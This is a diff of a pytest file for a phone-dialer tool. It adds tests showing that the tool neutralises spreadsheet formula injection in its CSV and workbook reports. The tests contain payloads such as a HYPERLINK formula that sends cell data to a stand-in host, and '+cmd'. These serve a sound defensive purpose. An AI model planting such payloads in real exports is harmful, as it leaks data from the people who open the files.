@@ -17,6 +17,10 @@ from pathlib import Path
 import openpyxl
 import pytest
 
+from dialer.call_words import Told
+from dialer.fates import wanted, write_fate
+from dialer.ledger import Ledger
+from dialer.loads import find_campaign
 from dialer.own_columns import FATE_COLUMNS, RESULT_COLUMNS
 from dialer.sandbox.child import SandboxProcess
 from dialer.sandbox.fate import fate_of
@@ -38,7 +42,7 @@ def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
 @pytest.fixture(scope="module")
 def slow_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
     """A desk whose calls go on and on."""
-    with SandboxProcess(":memory:", talk_seconds=3600.0) as sandbox:
+    with SandboxProcess(":memory:", queued_seconds=0.0, talk_seconds=3600.0) as sandbox:
         yield Desk(tmp_path_factory.mktemp("slow-desk"), sandbox, fictional_numbers())
 
 
@@ -62,8 +66,6 @@ def follow(desk: Desk, sheet: Sheet, *options: str) -> subprocess.Popen[str]:
 
 def heard_of(desk: Desk, sheet: Sheet, *, in_full: bool = False) -> int:
     """Of how many calls of a sheet the ledger knows something, or all."""
-    if not desk.ledger.exists():
-        return 0
     with closing(sqlite3.connect(f"file:{desk.ledger}?mode=ro", uri=True)) as connection:
         question = (
             "SELECT count(*) FROM calls AS c JOIN campaigns AS p ON p.campaign_id = c.campaign_id"
@@ -226,6 +228,59 @@ def test_a_workbook_gets_numbers_and_booleans(desk: Desk) -> None:
     ]
 
 
+HOSTILE = Told(
+    call_status="=1+1",
+    ended=True,
+    lead_qualification="+cmd",
+    call_intent="-2+3",
+    summary='=HYPERLINK("http://x.example/?"&A1)',
+    recording_url="@SUM(1)",
+    transcript="=1+1\n=2+2",
+)
+
+
+def told_by_a_hostile_api(desk: Desk, path: Path) -> Path:
+    """The report of a sheet of one person, about whose call the API says what could be formulas."""
+    desk.dialer("run", path, *desk.call_options())
+    ledger = Ledger(desk.ledger)
+    with ledger.transaction() as connection:
+        campaign = find_campaign(connection, path.stem)
+        assert campaign is not None
+        [call] = wanted(connection, campaign.campaign_id, transcripts=True)
+        now = ledger.clock()
+        write_fate(connection, campaign.campaign_id, call.call_id, HOSTILE, detailed=True, now=now)
+    ledger.close()
+    assert desk.dialer("report", path.stem, *desk.api).returncode == 0
+    return desk.folder / "reports" / f"{path.stem}.results{path.suffix}"
+
+
+def test_what_the_api_says_is_never_a_formula_in_a_csv(desk: Desk) -> None:
+    report = told_by_a_hostile_api(desk, desk.sheet(1).path)
+
+    with report.open(newline="", encoding="utf-8") as file:
+        [row] = csv.DictReader(file)
+    assert [row[name] for name in FATE_COLUMNS] == [
+        *("'=1+1", "", "", "'+cmd", "'-2+3", '\'=HYPERLINK("http://x.example/?"&A1)', "", "'@SUM(1)"),
+        "'=1+1\n=2+2",
+    ]
+
+
+def test_what_the_api_says_is_never_a_formula_in_a_workbook(desk: Desk) -> None:
+    book = openpyxl.Workbook()
+    for row in (("Mobile", "Name"), (desk.number(), "Ann Example")):
+        book.worksheets[0].append(row)
+    path = desk.folder / "hostile.xlsx"
+    book.save(path)
+    report = told_by_a_hostile_api(desk, path)
+
+    cells = openpyxl.load_workbook(report).worksheets[0][2][-len(FATE_COLUMNS) :]
+    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
+    assert [cell.value for cell in cells] == [
+        *("=1+1", None, None, "+cmd", "-2+3", '=HYPERLINK("http://x.example/?"&A1)', None, "@SUM(1)"),
+        "=1+1\n=2+2",
+    ]
+
+
 # ------------------------------------------------------------------------------------ a second round
 
 
@@ -288,48 +343,57 @@ def going_on(slow_desk: Desk) -> Sheet:
     return sheet
 
 
-def test_who_looks_once_is_told_to_come_back(slow_desk: Desk, going_on: Sheet) -> None:
-    finished = outcomes(slow_desk, going_on, "--give-up-after", "0s", "--json")
+@pytest.fixture(scope="module")
+def looked_once(slow_desk: Desk, going_on: Sheet) -> Finished:
+    return outcomes(slow_desk, going_on, "--give-up-after", "0s")
 
-    said = finished.json
-    assert (finished.returncode, said["exit_code"], said["calls"], said["ended"], said["stale"]) == (
-        *(75, 75, 3, 0, 3),
+
+def test_who_looks_once_is_told_to_come_back(looked_once: Finished) -> None:
+    assert (looked_once.returncode, looked_once.stdout.splitlines()) == (
+        75,
+        [
+            "  in-progress  3",
+            "0 of 3 calls ended.",
+            "3 calls had not ended by the last look, and may still: the same command looks again.",
+        ],
     )
-    assert set(said["counts"]) <= {"queued", "in-progress"}
 
 
-def test_a_call_that_goes_on_is_not_shown_as_ended(slow_desk: Desk, going_on: Sheet) -> None:
-    until(lambda: "queued" not in outcomes(slow_desk, going_on, "--give-up-after", "0s").stdout)
+@pytest.mark.usefixtures("looked_once")
+def test_a_call_that_goes_on_is_not_shown_as_ended(going_on: Sheet) -> None:
+    assert [(row["call_status"], row["duration_seconds"]) for row in going_on.results()] == [
+        ("in-progress", "")
+    ] * 3
 
-    finished = outcomes(slow_desk, going_on, "--give-up-after", "0s")
-    assert finished.stdout.splitlines() == [
-        "  in-progress  3",
-        "0 of 3 calls ended.",
-        "3 calls had not ended by the last look, and may still: the same command looks again.",
-    ]
-    assert [row["call_status"] for row in going_on.results()] == ["in-progress"] * 3
+
+@pytest.mark.usefixtures("looked_once")
+def test_a_call_that_has_not_ended_is_stale_in_the_ledger(slow_desk: Desk) -> None:
+    with closing(sqlite3.connect(f"file:{slow_desk.ledger}?mode=ro", uri=True)) as connection:
+        assert connection.execute("SELECT DISTINCT ended, stale FROM calls").fetchall() == [(0, 1)]
 
 
 @pytest.mark.parametrize(
     ("number", "code", "word"), [(signal.SIGINT, 130, "Interrupted"), (signal.SIGTERM, 143, "Terminated")]
 )
-def test_a_stop_saves_what_was_heard(slow_desk: Desk, number: signal.Signals, code: int, word: str) -> None:
-    sheet = slow_desk.sheet(2)
-    slow_desk.run(sheet)
-    process = follow(slow_desk, sheet)
-    until(lambda: heard_of(slow_desk, sheet) == 2)
+def test_a_stop_is_one_sentence(
+    slow_desk: Desk, going_on: Sheet, number: signal.Signals, code: int, word: str
+) -> None:
+    process = follow(slow_desk, going_on)
+    assert process.stderr is not None
+    assert process.stderr.readline() == "Waiting for 3 calls to end.\n"
     process.send_signal(number)
     finished = finish(process)
 
-    assert (finished.returncode, finished.stderr.splitlines()[-1]) == (
+    assert (finished.returncode, finished.stderr.strip()) == (
         code,
         f"dialer: {word}: nothing is lost, the same command goes on.",
     )
 
 
+@pytest.mark.usefixtures("going_on")  # so that there is a ledger to look into
 def test_a_run_that_is_interrupted_while_it_follows_still_writes_its_report(slow_desk: Desk) -> None:
     sheet = slow_desk.sheet(2)
-    process = slow_desk.start(sheet, "--follow")
+    process = slow_desk.start(sheet, "--follow", "-q")
     until(lambda: heard_of(slow_desk, sheet) == 2)
     process.send_signal(signal.SIGINT)
     finished = finish(process)
@@ -365,22 +429,19 @@ def test_a_campaign_without_calls_needs_no_answer(desk: Desk) -> None:
     assert (finished.returncode, finished.stdout) == (0, "No call was made in this campaign.\n")
 
 
-def test_an_api_out_of_reach_is_69(desk: Desk) -> None:
-    sheet = desk.sheet(1)
-    desk.run(sheet)
-    finished = desk.dialer(
-        *("outcomes", sheet.campaign, "--base-url", "http://127.0.0.1:9/v1", "--ledger", desk.ledger),
-        *("--give-up-after", "0s", "--json"),
+def test_an_api_out_of_reach_is_69(slow_desk: Desk, going_on: Sheet) -> None:
+    finished = slow_desk.dialer(
+        *("outcomes", going_on.campaign, "--base-url", "http://127.0.0.1:9/v1"),
+        *("--ledger", slow_desk.ledger, "--give-up-after", "0s", "--json"),
     )
 
     error = json.loads(finished.stdout)["error"]
     assert (finished.returncode, error["code"], error["exit_code"]) == (69, "unreachable", 69)
 
 
-def test_a_key_that_is_not_known_is_77(desk: Desk) -> None:
-    sheet = desk.sheet(1)
-    desk.run(sheet)
-    finished = desk.dialer("outcomes", sheet.campaign, *desk.api, env={"VOZAGENT_API_KEY": "sk_wrong"})
+def test_a_key_that_is_not_known_is_77(slow_desk: Desk, going_on: Sheet) -> None:
+    wrong = {"VOZAGENT_API_KEY": "sk_wrong"}
+    finished = slow_desk.dialer("outcomes", going_on.campaign, *slow_desk.api, env=wrong)
 
     assert (finished.returncode, finished.stderr) == (
         77,
